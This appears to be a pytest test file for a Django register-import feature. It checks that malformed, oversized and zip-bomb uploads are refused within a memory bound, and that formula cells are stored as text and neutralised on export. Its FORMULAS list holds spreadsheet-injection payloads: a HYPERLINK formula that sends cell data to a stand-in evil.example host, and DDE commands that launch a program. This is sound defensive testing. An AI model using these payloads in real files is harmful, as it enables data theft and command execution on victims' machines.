"""Broken and hostile register files: one clear message in the user's language, nothing written, memory bounded.

The corpus is built in tests/badfiles/corpus.py. Each file goes through the upload page as an officer whose
language is the default (简体中文), and through the reader alone to measure its peak memory.
"""

import csv
import functools
import io
import time

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from openpyxl import load_workbook

from branches.models import Organisation, RegisterImport, RegisterSource
from branches.registers import RegisterError, read_register
from tests.badfiles import corpus
from tests.badfiles.measure import peak_memory

MB = 1024 * 1024
# What reading a small bad file may add to the process, whatever it declares or expands to.
MEMORY_BOUND_MB = 64


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def upload(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def shown(code: str, message_key: str | None = None, **params) -> str:
    """A reader's message as the page shows it in 简体中文 (escaped)."""
    from branches.registers import _MESSAGES

    with translation.override("zh-hans"):
        template = _MESSAGES[message_key] if message_key else None
        return escape(str(RegisterError(code, template, **params).message))


@functools.cache
def bad_file(name: str) -> bytes:
    """The corpus by file name (each built once per test session)."""
    traditional = "單位名稱,統一社會信用代碼,所屬區\n海勃灣區測試協會,,海勃灣區\n"
    builders = {
        "utf-16-without-bom.csv": lambda: corpus.csv_text().encode("utf-16-le"),
        "big5.csv": lambda: traditional.encode("big5"),
        "shift-jis.csv": lambda: corpus.csv_text().encode("shift_jis", errors="replace"),
        "utf-8-header-gbk-rows.csv": lambda: (
            corpus.csv_text(rows=[]).encode() + "\n".join(",".join(r) for r in corpus.ROWS).encode("gbk")
        ),
        "truncated.xlsx": lambda: corpus.xlsx()[:400],
        "png-renamed.xlsx": lambda: corpus.PNG,
        "zip-without-workbook.xlsx": _plain_zip,
        "invalid-sheet-xml.xlsx": lambda: corpus.xlsx(
            corpus.SHEET_HEAD + b'<row><c r="A1" t="inlineStr"><is'
        ),
        "zip-bomb-1gb.xlsx": lambda: corpus.zip_bomb_xlsx(expanded_mb=1100),
        "zip-bomb-ratio.xlsx": lambda: corpus.zip_bomb_xlsx(expanded_mb=300),
        "zip-bomb-lying-sizes.xlsx": lambda: corpus.zip_bomb_xlsx(expanded_mb=20, declared_size=1000),
        "million-rows.xlsx": lambda: corpus.million_rows_xlsx(),
        "16384-columns.xlsx": lambda: corpus.wide_xlsx(16_384),
        "one-cell-at-xfd1048576.xlsx": lambda: corpus.xlsx(
            extra='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "one-cell-at-cz200000.xlsx": lambda: corpus.xlsx(
            extra='<row r="200000"><c r="CZ200000"><v>1</v></c></row>'
        ),
        "header-only.xlsx": lambda: corpus.xlsx_rows([corpus.HEADER]),
        "header-only.csv": lambda: corpus.csv_text(rows=[]).encode(),
    }
    return builders[name]()


def _plain_zip() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


# file → (code, message key when it is not the code's own, its parameters)
REFUSED = {
    "utf-16-without-bom.csv": ("unsupported_type", "binary", {}),
    "big5.csv": ("unsupported_type", "binary", {}),
    "shift-jis.csv": ("no_header", None, {"rows": 20}),
    "utf-8-header-gbk-rows.csv": ("encoding", None, {}),
    "truncated.xlsx": ("corrupt", None, {}),
    "png-renamed.xlsx": ("unsupported_type", "foreign_type", {"kind": "PNG"}),
    "zip-without-workbook.xlsx": ("corrupt", None, {}),
    "invalid-sheet-xml.xlsx": ("corrupt", None, {}),
    "zip-bomb-1gb.xlsx": ("too_large", "zip_bomb", {"limit": 500}),
    "zip-bomb-ratio.xlsx": ("too_large", "zip_bomb", {"limit": 500}),
    "zip-bomb-lying-sizes.xlsx": ("corrupt", None, {}),
    "million-rows.xlsx": ("too_many_rows", None, {"limit": 200_000}),
    "16384-columns.xlsx": ("too_many_columns", None, {"limit": 200}),
    "one-cell-at-xfd1048576.xlsx": ("too_many_rows", None, {"limit": 200_000}),
    "one-cell-at-cz200000.xlsx": ("too_many_cells", None, {"rows": 200_000, "columns": "CZ"}),
    "header-only.xlsx": ("no_rows", None, {}),
    "header-only.csv": ("no_rows", None, {}),
}


# A file whose header row is not found is kept instead: its uploader points at the header row (or discards it).
REFUSED_ON_UPLOAD = [name for name, (code, _key, _params) in REFUSED.items() if code != "no_header"]


@pytest.mark.parametrize("name", REFUSED_ON_UPLOAD)
def test_a_bad_register_gets_one_clear_message_in_the_users_language_and_nothing_is_written(
    client, city_officer, name
):
    code, key, params = REFUSED[name]
    client.force_login(city_officer)
    organisations = Organisation.objects.count()

    response = client.post(
        reverse("branches:import_upload"),
        {"source": "坏文件名录", "file": upload(name, bad_file(name))},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )

    if response.status_code == 302:  # a file above IMPORT_INLINE_BYTES is read as a job: its page says why
        from jobs.models import Job

        assert response["Location"].startswith("/jobs/")
        assert Job.objects.get().status == Job.Status.FAILED
        response = client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="zh-hans")
        assert response.text.count("alert-danger") == 1
    else:
        assert response.status_code == 200
        assert response.text.count("invalid-feedback") == 1
    assert 'lang="zh-hans"' in response.text
    assert shown(code, key, **params) in response.text
    assert not RegisterImport.objects.exists() and not RegisterSource.objects.exists()
    assert Organisation.objects.count() == organisations


def test_a_register_in_an_unread_encoding_shows_its_rows_and_says_how_to_save_it(client, city_officer):
    client.force_login(city_officer)
    response = client.post(
        reverse("branches:import_upload"),
        {"source": "坏文件名录", "file": upload("shift-jis.csv", bad_file("shift-jis.csv"))},
        HTTP_ACCEPT_LANGUAGE="zh-hans",
    )
    assert response.status_code == 302
    page = client.get(response["Location"], HTTP_ACCEPT_LANGUAGE="zh-hans").text
    assert "哪一行是表头？" in page and "CSV UTF-8" in page
    assert RegisterImport.objects.get().status == RegisterImport.Status.UPLOADED
    assert not Organisation.objects.exists()


@pytest.mark.parametrize("name", list(REFUSED))
def test_reading_a_bad_register_stays_within_a_memory_bound(name, settings):
    data = bad_file(name)
    with peak_memory() as peak, pytest.raises(RegisterError) as error:
        read_register(data, name)
    assert error.value.code == REFUSED[name][0]
    assert peak["mb"] < MEMORY_BOUND_MB, f"{name}: {peak['mb']:.0f} MB"


def test_the_zip_bomb_is_refused_from_its_declared_sizes_before_anything_expands_it():
    data = bad_file("zip-bomb-1gb.xlsx")
    assert len(data) < 4 * MB  # the file is small; what it declares is not
    started = time.perf_counter()
    with pytest.raises(RegisterError) as error:
        read_register(data, "bomb.xlsx")
    assert error.value.code == "too_large"
    assert time.perf_counter() - started < 1


def test_the_zip_limits_and_row_and_column_limits_come_from_settings(settings):
    settings.IMPORT_MAX_ROWS = 1
    rows = corpus.xlsx_rows([corpus.HEADER, *corpus.ROWS])
    with pytest.raises(RegisterError) as error:
        read_register(rows, "a.xlsx")
    assert error.value.code == "too_many_rows"
    settings.IMPORT_MAX_ROWS = 200_000
    settings.IMPORT_MAX_COLUMNS = 3
    with pytest.raises(RegisterError) as error:
        read_register(corpus.csv_text().encode(), "a.csv")
    assert error.value.code == "too_many_columns"
    settings.IMPORT_MAX_COLUMNS = 200
    settings.UPLOAD_ZIP_MAX_RATIO = 1000
    settings.UPLOAD_ZIP_MAX_MB = 2000
    bomb = bad_file("zip-bomb-ratio.xlsx")  # 300 MB of rows without references: now scanned, and too many
    with peak_memory() as peak, pytest.raises(RegisterError) as error:
        read_register(bomb, "bomb.xlsx")
    assert error.value.code == "too_many_rows"
    assert peak["mb"] < MEMORY_BOUND_MB


def test_a_row_limit_lower_than_the_file_is_told_on_the_upload_page(client, city_officer, settings):
    settings.IMPORT_MAX_ROWS = 50
    client.force_login(city_officer)
    data = corpus.csv_text(rows=[[f"乌海市测试{i}协会", "", "海勃湾区", "张三"] for i in range(51)]).encode()
    response = client.post(
        reverse("branches:import_upload"), {"source": "名录", "file": upload("a.csv", data)}
    )
    assert shown("too_many_rows", limit=50) in response.text
    assert not RegisterImport.objects.exists()


def test_a_real_million_row_csv_stops_at_the_row_limit(tmp_path):
    path = corpus.million_rows_csv(tmp_path / "million.csv")
    data = path.read_bytes()
    started = time.perf_counter()
    with peak_memory() as peak, pytest.raises(RegisterError) as error:
        for _row in read_register(data, "million.csv", max_bytes=len(data), stream=True, raw=False).rows:
            pass
    assert error.value.code == "too_many_rows"
    assert time.perf_counter() - started < 15
    # the decoded text (~4 bytes a character) and the rows read before the limit
    assert peak["mb"] < 8 * len(data) / MB


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("utf-16-with-bom.csv", corpus.csv_text().encode("utf-16")),
        (
            "merged-title.xlsx",
            corpus.xlsx_rows([["乌海市名录"], corpus.HEADER, corpus.ROWS[0]], merged="A1:D1"),
        ),
    ],
)
def test_odd_but_honest_registers_are_read(name, data):
    table = read_register(data, name)
    assert [row.values["name"] for row in table.rows][0] == corpus.ROWS[0][0]


def test_a_duplicated_header_is_asked_about_and_nothing_is_written(client, city_officer):
    client.force_login(city_officer)
    data = "单位名称,单位名称,所属区\n乌海市甲协会,乌海市乙协会,海勃湾区\n".encode()
    response = client.post(
        reverse("branches:import_upload"), {"source": "名录", "file": upload("dup.csv", data)}
    )
    register_import = RegisterImport.objects.get()
    assert response.status_code == 302
    assert register_import.status == RegisterImport.Status.UPLOADED  # waiting for the column to be mapped
    assert not Organisation.objects.filter(name__in=["乌海市甲协会", "乌海市乙协会"]).exists()


# --- formulas: stored as text, never run, neutralised on export --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def formula_register() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["单位名称", "所属区", "类别", "联系人", "单位地址"])
    for number, formula in enumerate(FORMULAS):
        writer.writerow([f"{formula} 协会{number}", "海勃湾区", "新社会组织", formula, formula])
    return buffer.getvalue().encode()


def test_formula_cells_are_stored_as_text_and_neutralised_on_export(client, city_officer):
    client.force_login(city_officer)
    response = client.post(
        reverse("branches:import_upload"),
        {"source": "公式名录", "file": upload("formulas.csv", formula_register())},
    )
    register_import = RegisterImport.objects.get()
    client.post(reverse("branches:import_apply", args=[register_import.pk]))
    names = {f"{formula} 协会{number}" for number, formula in enumerate(FORMULAS)}
    stored = Organisation.objects.filter(name__in=names)
    assert response.status_code == 302 and stored.count() == len(FORMULAS)
    assert set(stored.values_list("address", flat=True)) == set(FORMULAS)  # the text, not a computed value

    response = client.get(reverse("branches:organisation_export"), {"format": "xlsx", "q": "协会"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    cell_types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in cell_types  # no cell is a formula
    for formula in FORMULAS:
        assert "'" + formula in cells
        assert formula not in cells

    response = client.get(reverse("branches:organisation_export"), {"format": "csv", "q": "协会"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    for value in (cell for row in csv.reader(io.StringIO(text)) for cell in row):
        assert not value.startswith(("=", "+", "-", "@")), value
